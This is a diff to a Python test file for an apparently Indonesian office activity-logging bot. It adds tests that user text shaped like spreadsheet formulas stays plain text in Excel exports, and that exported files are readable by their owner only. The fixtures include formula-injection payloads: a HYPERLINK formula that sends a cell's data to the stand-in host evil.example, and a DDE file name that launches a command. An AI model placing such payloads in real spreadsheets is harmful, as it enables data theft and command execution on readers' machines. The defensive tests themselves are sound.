@@ -15,6 +15,7 @@ Susanti: Fri 20 Nov  Menyusun SPJ <belanja> & "ATK", 3 dokumen, 90 min, revision
 from __future__ import annotations
 
 import io
+import stat
 from datetime import UTC, date, datetime
 from pathlib import Path
 
@@ -341,6 +342,63 @@ async def test_english_export(office) -> None:  # type: ignore[no-untyped-def]
     assert rows[1][6] == "Approved" and rows[1][9].startswith("photo (evidence/")
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Klik untuk detail")',
+    "+62 812 3456 rapat",
+    "-",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+]
+DDE_NAME = "=cmd|' /C calc'!A0"
+
+
+async def test_descriptions_and_file_names_that_look_like_formulas_stay_text(office) -> None:  # type: ignore[no-untyped-def]
+    """What people type is written as text: Excel and LibreOffice show it and never run it."""
+    agus = await office.employee(AGUS)
+    ids = await _ids(office)
+    stamp = datetime(2026, 11, 2, 3, tzinfo=UTC)
+    async with office.db.write() as session:
+        activities = [
+            Activity(
+                employee_id=ids[AGUS],
+                work_date=date(2026, 11, 2 + n),
+                description=text,
+                quantity=2,
+                output_unit="=2*3",
+                minutes=30,
+                created_at=stamp,
+            )
+            for n, text in enumerate(FORMULAS)
+        ]
+        session.add_all(activities)
+        await session.flush()
+        session.add(
+            ActivityEvidence(
+                activity_id=activities[0].id,
+                kind="document",
+                telegram_file_id="BQACAgUAAxkBAAI-dde",
+                file_unique_id="AgADdde",
+                file_name=DDE_NAME,
+                stored_path=str(office.settings.data_dir / "evidence" / "2026-11" / "AgADdde"),
+            )
+        )
+    await agus.send("/ekspor")
+    await agus.wait_for(1)
+    await agus.press("Bulan ini")
+    [document] = await agus.wait_for(1)
+    sheet = _workbook(office, document)["Agus Salim Daulay"]
+    rows = list(sheet.iter_rows(min_row=2))
+    assert [(r[1].value, r[1].data_type) for r in rows] == [(t, "s") for t in FORMULAS]
+    assert all(r[1].quotePrefix for r in rows)  # and edited in Excel, it stays text
+    assert {(r[3].value, r[3].data_type) for r in rows} == {("=2*3", "s")}
+    evidence = rows[0][9]
+    assert evidence.data_type == "s"
+    assert evidence.value == f"{DDE_NAME} (evidence/2026-11/AgADdde)"
+    # Numbers stay numbers.
+    assert {(r[2].value, r[2].data_type, r[4].value) for r in rows} == {(2, "n", 30)}
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+
 async def test_cli_export(office, tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
     monkeypatch.setenv("PYTHONPATH", str(Path(__file__).resolve().parents[2]))
     ids = await _ids(office)
@@ -350,12 +408,15 @@ async def test_cli_export(office, tmp_path: Path, monkeypatch) -> None:  # type:
         "SIGAP_DATA_DIR": str(office.settings.data_dir),
     }
     out = tmp_path / "sek.xlsx"
+    out.write_bytes(b"")
+    out.chmod(0o644)  # an older file, readable by everyone: the export must not stay so
     code, stdout, err = await sigap(
         "export", "activities", "--unit", "blw-sek", "--from", "2026-11-01", "--to",
         "2026-11-30", "--out", str(out), env=env, cwd=tmp_path,
     )  # fmt: skip
     assert code == 0, err
     assert stdout.strip() == f"{out}: 3 kegiatan dari 2 pegawai."
+    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # personal data: the owner only
     book = load_workbook(out)
     assert book.sheetnames == ["Ringkasan", "Agus Salim Daulay", "Susanti Halim, S.E."]
     assert _rows(book["Agus Salim Daulay"])[1][9] == (
